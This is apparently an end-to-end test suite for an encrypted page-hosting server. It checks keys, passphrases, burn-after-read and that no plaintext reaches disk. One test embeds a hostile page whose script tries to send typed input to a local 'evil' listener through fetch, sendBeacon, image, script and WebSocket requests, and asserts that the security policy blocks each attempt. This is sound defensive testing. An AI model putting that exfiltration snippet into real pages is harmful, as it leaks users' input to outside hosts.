// End-to-end encrypted pages on the real server: made by both senders of docs/senders and by hand, opened in the browser
// with the right key, a wrong key, a passphrase; gated and burnt; and the bytes on disk hold none of the plaintext.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { launch, openPage } from './browser.mjs';
import { publish, request, siteHost } from './http.mjs';
import { FRAGMENT, fragment, seal, sealBare, VECTORS } from './sealed.mjs';
import { operatorKey, ROOT, startServer, tempDir, until } from './server.mjs';

const WORDS = 'the plaintext that must not be on disk';
const PAGE = `<!doctype html><title>Sealed</title><p>${WORDS}</p><script>document.body.dataset.ran = 'yes'</script>`;
const PYTHON = path.join(ROOT, '.test/venv/bin/python');
const SENDERS = {
  JavaScript: [process.execPath, path.join(ROOT, 'docs/senders/send-encrypted.mjs')],
  Python: [PYTHON, path.join(ROOT, 'docs/senders/send_encrypted.py')],
};

let server, browser, context, key, folder, file;

before(async () => {
  server = await startServer({ env: { DROPLEAF_LIMITS__EXEMPT: '127.0.0.0/8,::1/128' } });
  key = await operatorKey(server);
  browser = await launch();
  context = await browser.newContext();
  folder = await tempDir('senders');
  file = path.join(folder, 'page.html');
  await writeFile(file, PAGE);
});
after(async () => {
  await browser?.close();
  await server?.stop();
  if (folder) await rm(folder, { recursive: true });
});

async function open(url) {
  const page = await openPage(context);
  await page.goto(url);
  return page;
}
const shown = (page, text) => page.getByText(text).first().waitFor();

/** Runs a sender and gives the link it prints. */
async function send([program, script], more = {}) {
  const env = { PATH: process.env.PATH, DROPLEAF_URL: server.url, ...more };
  const { stdout } = await promisify(execFile)(program, [script, file], { env });
  assert.match(stdout, /^http\S+\/p\/[\w-]{22}\/#k=[\w-]{43}\n$/);
  return stdout.trim();
}

const byHand = (payload, fields = {}) => publish(server, { name: 'page.e2e', bytes: payload, fields: { e2e: 'true', ...fields }, key });

for (const [name, sender] of Object.entries(SENDERS)) {
  describe(`the ${name} sender`, () => {
    test('makes a page that opens with its link, and with no other key', async () => {
      const link = await send(sender, { DROPLEAF_KEY: key });
      const page = await open(link);
      await shown(page, WORDS);
      assert.equal(await page.evaluate(() => document.body.dataset.ran), 'yes');
      const [address] = link.split('#');
      const wrong = await open(address + fragment(Buffer.alloc(32, 7)));
      await shown(wrong, 'This key does not open the page');
      const none = await open(address);
      await shown(none, 'The key is missing');
    });

    test('makes a page with a passphrase, without an account', async () => {
      const page = await open(await send(sender, { PASSPHRASE: 'größe 🌿' }));
      const field = page.getByLabel('Passphrase', { exact: true });
      await field.fill('grösse');
      await page.keyboard.press('Enter');
      await shown(page, 'Incorrect passphrase');
      await field.fill('größe 🌿');
      await page.keyboard.press('Enter');
      await shown(page, WORDS);
    });
  });
}

describe('by hand', () => {
  test('the vectors open', async () => {
    const site = await byHand(VECTORS.plain);
    assert.equal(site.e2e, true);
    await shown(await open(site.url + FRAGMENT), 'hi');
    const locked = await open((await byHand(VECTORS.passphrase)).url + FRAGMENT);
    await locked.getByLabel('Passphrase', { exact: true }).fill('pass');
    await locked.keyboard.press('Enter');
    await shown(locked, 'hi');
  });

  test('the bare format and text open', async () => {
    await shown(await open((await byHand(sealBare(PAGE))).url + FRAGMENT), WORDS);
    const text = await open((await byHand(seal(WORDS, { gzip: true }))).url + FRAGMENT);
    assert.equal(await text.locator('pre').textContent(), WORDS);
  });

  test('under the strict policy it opens, and its inline script stays silent', async () => {
    const page = await open((await byHand(seal(PAGE), { csp_strict: 'true' })).url + FRAGMENT);
    await shown(page, WORDS);
    assert.equal(await page.evaluate(() => document.body.dataset.ran), undefined);
  });

  test('behind a password it opens after the gate, with the key of the first link', async () => {
    const page = await open((await byHand(seal(PAGE), { password: 'correct horse' })).url + FRAGMENT);
    await page.locator('input[type=password]').fill('correct horse');
    await page.keyboard.press('Enter');
    await shown(page, WORDS);
  });

  test('read once and burnt it opens once', async () => {
    const site = await byHand(seal(PAGE), { burn_after_read: 'true' });
    const page = await open(site.url + FRAGMENT);
    await page.getByRole('button').first().click();
    await shown(page, WORDS);
    const stranger = await browser.newContext();
    const late = await stranger.newPage();
    assert.equal((await late.goto(site.url + FRAGMENT)).status(), 410);
    await stranger.close();
  });

  test('without an account it sends nothing of what is typed, and says who looked at it: nobody', async () => {
    // Chromium may open a connection for a form before it asks the policy; what counts is that nothing is said on it.
    let said = '';
    const outside = net.createServer((socket) => {
      socket.unref().on('error', () => {}).on('data', (bytes) => (said += bytes));
    });
    await new Promise((resolve) => outside.listen(0, '127.0.0.1', resolve));
    outside.unref();
    const evil = `http://127.0.0.1:${outside.address().port}`;
    const hostile = `<!doctype html><title>Sign in</title><p>${WORDS}</p><form action="${evil}/form"><input name="word"><button>Send</button></form>
      <script>const refused = []; addEventListener('securitypolicyviolation', (event) => { refused.push(event.effectiveDirective); document.body.dataset.refused = refused.sort().join(' '); });
      document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
        for (const act of [() => fetch('${evil}/?' + word), () => navigator.sendBeacon('${evil}/?' + word), () => (new Image().src = '${evil}/?' + word),
          () => document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/?' + word })), () => new WebSocket('${evil.replace('http', 'ws')}')]) {
          try { Promise.resolve(act()).catch(() => {}); } catch {} } document.body.dataset.tried = 'yes'; });</script>`;
    const site = await publish(server, { name: 'page', bytes: seal(hostile), fields: { e2e: 'true' } });
    const page = await open(site.url + FRAGMENT);
    await shown(page, WORDS);
    await page.locator('input[name=word]').fill('typed');
    // Not waited for: the browser announces a navigation that the policy then ends.
    await page.getByRole('button', { name: 'Send' }).click({ noWaitAfter: true });
    await page.waitForFunction(() => document.body.dataset.tried === 'yes');
    // Each of them was stopped by the policy, which the browser tells once it has decided.
    const stopped = 'connect-src connect-src connect-src form-action img-src script-src-elem';
    await until('every request to be refused', async () => (await page.evaluate(() => document.body.dataset.refused)) === stopped);
    assert.equal(said, '', 'nothing left');
    assert.ok(page.url().endsWith(FRAGMENT), 'it is still there');
    assert.ok(await page.locator('[popover]').count(), 'the notice is over it');
    outside.close();
  });

  test('a plain client gets the bytes as they came', async () => {
    const payload = seal(PAGE);
    const site = await byHand(payload);
    const answer = await request(server, { path: site.path, host: siteHost(server) });
    assert.equal(answer.headers['content-type'], 'application/octet-stream');
    assert.deepEqual(answer.bytes, payload);
  });
});

test('nothing the server stored holds the plaintext', async () => {
  const names = await readdir(server.dataDir, { recursive: true, withFileTypes: true });
  let read = 0;
  for (const entry of names.filter((one) => one.isFile())) {
    const bytes = await readFile(path.join(entry.parentPath ?? entry.path, entry.name));
    assert.ok(!bytes.includes(WORDS), entry.name);
    read += bytes.length;
  }
  assert.ok(read > 10_000);
  assert.ok(!server.log.includes(WORDS));
});
